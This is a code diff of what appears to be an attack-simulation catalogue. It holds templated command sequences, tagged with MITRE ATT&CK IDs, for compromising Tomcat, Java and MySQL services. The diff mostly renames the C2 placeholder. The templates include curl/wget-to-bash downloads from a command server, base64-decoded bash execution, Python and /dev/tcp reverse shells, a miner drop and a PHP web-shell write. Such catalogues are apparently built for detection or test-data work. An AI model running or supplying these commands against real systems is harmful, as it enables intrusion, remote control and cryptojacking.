@@ -45,8 +45,6 @@ C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe | @ /out:{webdrop}\{tool
 
 {webdrop}\{tool}.exe
 or
-nothing
-or
 cmd: appcmd list apppool /config
 """),
     Attack("tomcat-windows", ("tomcat",), ("T1190", "T1059.003", "T1105"), "a manager upload runs commands", r"""
@@ -63,12 +61,12 @@ or
 C:\Windows\Temp\{tool}.exe
 """),
     Attack("java-shell", ("tomcat-linux",), ("T1190", "T1059.004", "T1496"), "curl into bash, then a miner", r"""
-sh: curl -fsSL http://{c2}/{rnd}.sh | bash
+sh: curl -fsSL http://{beacon}/{rnd}.sh | bash
   /usr/bin/chmod | chmod +x {nixdrop}/{nixtool}
   {nixdrop}/{nixtool}
 or
-sh: (curl -s {c2}/{rnd}||wget -q -O- {c2}/{rnd})|sh
-  {nixdrop}/{nixtool} | @ -B -o {c2}
+sh: (curl -s {beacon}/{rnd}||wget -q -O- {beacon}/{rnd})|sh
+  {nixdrop}/{nixtool} | @ -B -o {beacon}
 or
 /usr/bin/bash | bash -c {echo,{blob}}|{base64,-d}|{bash,-i}
 
@@ -89,13 +87,13 @@ sh: whoami
 or
 nothing
 
-sh: curl -s http://{c2}/{rnd} | sh
+sh: curl -s http://{beacon}/{rnd} | sh
   {nixdrop}/{nixtool}
 or
-sh: wget -q {c2}/{rnd} -O {nixdrop}/{nixtool}; chmod 777 {nixdrop}/{nixtool}; {nixdrop}/{nixtool}
+sh: wget -q {beacon}/{rnd} -O {nixdrop}/{nixtool}; chmod 777 {nixdrop}/{nixtool}; {nixdrop}/{nixtool}
 or
 sh: echo {blob} | base64 -d | bash
-  /usr/bin/curl | curl {c2}/{rnd2}.sh -o {nixdrop}/{rnd}
+  /usr/bin/curl | curl {beacon}/{rnd2}.sh -o {nixdrop}/{rnd}
   {nixdrop}/{nixtool}
 
 nothing
@@ -117,7 +115,7 @@ nothing
 or
 sh: ps aux
 
-sh: wget http://{c2}/{rnd} -O {nixdrop}/{nixtool} && chmod +x {nixdrop}/{nixtool}
+sh: wget http://{beacon}/{rnd} -O {nixdrop}/{nixtool} && chmod +x {nixdrop}/{nixtool}
   {nixdrop}/{nixtool}
 or
 sh: python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{wan}",{port}));pty.spawn("sh")'
@@ -125,14 +123,14 @@ sh: python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{wan}",{port}
 or
 sh: bash -i >& /dev/tcp/{wan}/{port} 0>&1
 or
-sh: curl {c2}/{rnd}.txt -o {web}/{rnd}.php
+sh: curl {beacon}/{rnd}.txt -o {web}/{rnd}.php
 """),
     Attack("mysql-library", ("mysql",), ("T1190", "T1059.004"), "a user-defined function runs commands", r"""
 sh: id
 or
 sh: uname -a
 
-sh: curl -s http://{c2}/{rnd} | sh
+sh: curl -s http://{beacon}/{rnd} | sh
   {nixdrop}/{nixtool}
 or
 sh: {nixdrop}/{nixtool} -d
